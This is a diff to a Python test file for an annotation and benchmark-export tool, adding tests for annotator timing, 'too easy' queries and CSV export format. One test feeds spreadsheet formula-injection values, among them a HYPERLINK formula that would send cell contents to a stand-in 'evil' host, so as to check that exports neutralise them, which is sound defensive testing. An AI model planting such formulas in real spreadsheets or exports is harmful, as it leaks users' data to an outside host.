@@ -9,9 +9,11 @@ from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from bench import active_order
-from eyespot.build.annotate import agreement, auditing, candidates, export
+from eyespot.build.annotate import agreement, auditing, candidates, export, queries
 from eyespot.build.annotate.active import likely_first
 from eyespot.build.annotate.auditing import Plan, draw
 from eyespot.build.annotate.desk import Candidate, Desk, Drawn
@@ -167,12 +169,41 @@ def test_a_label_that_no_photo_has_is_told(tmp_path: Path) -> None:
         candidates.list_labelled(at, "q", Collection(gallery(tmp_path, 20, 2)), filters.label("kind", "stork"))
 
 
+def marks(times: list[float]) -> list[Judgement]:
+    return [Judgement("q", str(n), "person:a", "p", None, at=at) for n, at in enumerate(times)]
+
+
 # -- time -----------------------------------------------------------------------------------------------------------
 
 
 def test_pauses_are_not_paid_for() -> None:
     times = [0.0, 2.0, 2.0, 5.0, 5000.0, 5010.0]
-    assert seconds(Judgement("q", str(n), "person:a", "p", None, at=at) for n, at in enumerate(times)) == 15
+    # 15 seconds for the four photos after a mark; the first one and the one after the pause count at their pace
+    assert seconds(marks(times)) == pytest.approx(15 * 6 / 4)
+
+
+def test_pages_that_are_marked_at_once_take_the_time_of_a_stop_watch() -> None:
+    """Five pages of 120 photos, 90 seconds each, then a night, then another page."""
+    pages = [*(90.0 * page for page in range(1, 6)), 40_000.0]
+    assert seconds(marks([at for at in pages for _ in range(120)])) == pytest.approx(6 * 90)
+
+
+def test_one_page_alone_has_no_time() -> None:
+    assert seconds(marks([10.0] * 120)) == 0
+
+
+@given(
+    st.lists(st.tuples(st.integers(1, 120), st.floats(0.5, 5)), min_size=3, max_size=30),
+    st.floats(300, 1e6),
+    st.integers(1, 29),
+)
+def test_a_pause_hardly_changes_the_time(pages: list[tuple[int, float]], pause: float, at: int) -> None:
+    """At one pace a pause of any length adds nothing."""
+    counts = [count for count, _ in pages]
+    pace = pages[0][1]
+    ends = [pace * sum(counts[: page + 1]) + (601 + pause if page >= at else 0) for page in range(len(counts))]
+    found = seconds(marks([end for end, count in zip(ends, counts, strict=True) for _ in range(count)]))
+    assert found == pytest.approx(pace * sum(counts))
 
 
 # -- several people -------------------------------------------------------------------------------------------------
@@ -240,6 +271,23 @@ def test_a_query_that_is_too_easy_is_told(at: Desk) -> None:
     assert export.labelled(at, "q").faults == ["too easy: 51 of the first 100"]
 
 
+def test_a_list_that_labels_narrowed_is_not_too_easy(tmp_path: Path) -> None:
+    collection = Collection(gallery(tmp_path, 60, 10))
+    with desk(tmp_path, 0, visible="yes", feasible="yes", of_interest="yes") as at:
+        candidates.list_labelled(at, "q", collection, candidates.any_label("kind", ["heron"]))
+        at.mark("q", "ada", {photo.image: YES for photo in at.candidates("q")})
+        assert export.labelled(at, "q").faults == []
+
+
+def test_a_ranking_that_labels_were_added_to_may_be_too_easy(tmp_path: Path) -> None:
+    collection = Collection(gallery(tmp_path, 120, 60))
+    with desk(tmp_path, 0) as at:
+        candidates.list_nearest(at, "q", collection, 110)
+        candidates.list_labelled(at, "q", collection, candidates.any_label("kind", ["heron"]))
+        at.mark("q", "ada", {photo.image: YES for photo in at.candidates("q")})
+        assert "too easy: 100 of the first 100" in export.labelled(at, "q").faults
+
+
 def test_the_share_found_is_told_on_the_safe_side(at: Desk) -> None:
     go_down(at, "ada", 150)
     audit(at, "ada")
@@ -264,8 +312,14 @@ def test_inquires_files_are_read_as_inquires(out: Path) -> None:
     assert (found.queries["q"]["category"], found.qrels.relevant("q")) == ("Species", {"50", "100"})
 
 
+def test_every_row_of_the_annotations_is_a_match(out: Path) -> None:
+    """INQUIRE's code reads no column but these three and counts every row."""
+    lines = (out / "annotations.csv").read_text().splitlines()
+    assert lines == ["query_id,image_id,image_path", "q,50,50.jpg", "q,100,100.jpg"]
+
+
 def test_judged_negatives_stay(out: Path) -> None:
-    with (out / "annotations.csv").open() as file:
+    with (out / "labels.csv").open() as file:
         rows = list(csv.DictReader(file))
     assert (len(rows), sum(row["relevant"] == "0" for row in rows)) == (120, 118)
 
@@ -293,7 +347,23 @@ def test_a_photo_keeps_its_place_though_another_query_does_not_know_it(tmp_path:
             at.mark(id, "ada", {"aa": YES})
         export.write(at, export.every(at), tmp_path / "out")
     lines = (tmp_path / "out" / "annotations.csv").read_text().splitlines()
-    assert lines[1:] == ["q,aa,a.jpg,1", "r,aa,a.jpg,1"]
+    assert lines[1:] == ["q,aa,a.jpg", "r,aa,a.jpg"]
+
+
+def test_no_text_is_a_formula_and_all_come_back(tmp_path: Path) -> None:
+    wanted = Wanted("=1+1", '=HYPERLINK("http://evil/"&A1,"x")', {"category": "@SUM(1)"})
+    with Desk(tmp_path / "ledger.sqlite") as at:
+        at.take_in([wanted])
+        at.extend("=1+1", [Candidate("-2", "-2+3.jpg"), Candidate("b", "\t=tab.jpg")])
+        at.mark("=1+1", "ada", {"-2": YES, "b": NO})
+        export.write(at, export.every(at), tmp_path / "out")
+    names = [tmp_path / "out" / name for name in ("queries.csv", "annotations.csv", "labels.csv")]
+
+    cells = [cell for name in names for row in csv.reader(name.read_text().splitlines()) for cell in row]
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))] == []
+    (back,) = queries.read(names[0])
+    assert (back.id, back.text, back.facts["category"]) == (wanted.id, wanted.text, "@SUM(1)")
+    assert inquire.read(names[0], names[2]).qrels.grades == {"=1+1": {"-2": 1, "b": 0}}
 
 
 def test_the_datasheet_says_who_and_how_much(out: Path) -> None:
